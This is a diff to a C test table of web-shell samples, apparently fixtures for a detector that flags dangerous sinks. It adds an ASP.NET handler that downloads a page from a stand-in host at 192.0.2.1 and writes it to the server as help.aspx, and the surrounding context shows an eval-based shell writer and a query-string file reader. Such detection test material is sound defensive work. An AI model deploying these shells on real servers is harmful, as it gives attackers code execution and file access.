@@ -280,6 +280,12 @@ static const struct expect shells[] = {
          "File.WriteAllText(c.Server.MapPath(\"x.aspx\"), \"<%@ Page Language=\\\"Jscript\\\"%>"
          "<%eval(Request.Item[\\\"a\\\"]);%>\"); } }",
          EXS_SINK_FILE_WRITE, false},
+        {"file write, a page fetched and dropped",
+         "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.IO; using System.Net;\n"
+         "public class H { public void ProcessRequest(System.Web.HttpContext c) { string s = "
+         "new WebClient().DownloadString(\"http://192.0.2.1/p.txt\"); StreamWriter w = "
+         "File.CreateText(c.Server.MapPath(\"help.aspx\")); w.Write(s); w.Close(); } }",
+         EXS_SINK_FILE_WRITE, false},
         {"file read, C#",
          "<%@ Page Language=\"C#\" %><% "
          "Response.Write(System.IO.File.ReadAllText(Request.QueryString[\"f\"])); %>",
